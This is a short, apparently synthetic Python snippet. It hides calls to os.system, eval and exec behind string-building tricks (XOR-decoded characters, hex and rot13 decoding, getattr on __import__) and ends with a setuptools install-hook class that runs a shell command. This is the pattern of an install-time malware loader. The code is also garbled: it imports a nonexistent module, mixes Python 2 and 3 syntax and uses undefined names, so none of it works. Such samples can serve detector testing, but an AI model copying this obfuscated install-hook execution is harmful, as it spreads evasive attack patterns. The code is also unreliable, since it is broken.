import os as o, importlib, codecs, dec
from subprocess import Popen as P
e = eval
s = getattr(__import__('o' + 's'), 'sys' + 'tem')
k = 5
x = ''.join([chr(c ^ k) for c in [106, 118]]) + '%s-%d' % ('a', 3) + '{}{n}'.format('b', n='c')
y = ''.join(map(lambda c: chr(c + 1), range(97, 100)))[::-1] * 3
z = bytes.fromhex('6f73').decode() + codecs.decode('bf', 'rot13') + f'{x!s:>8}'
f = lambda t: dec.rev(t[::-1])
def g(t):
    return f(t).decode('latin-1').upper()
globals()['ev' + 'al'](vars(__builtins__)['exec'](g(b'so')))
importlib.import_module(x).system(z if 'o' in x else y)
w = x
w += y
exec 'print 1' in ns
for i in range(3):
    w = w + w
class C(install):
    def run(self):
        o.system(w, *a, **kw)
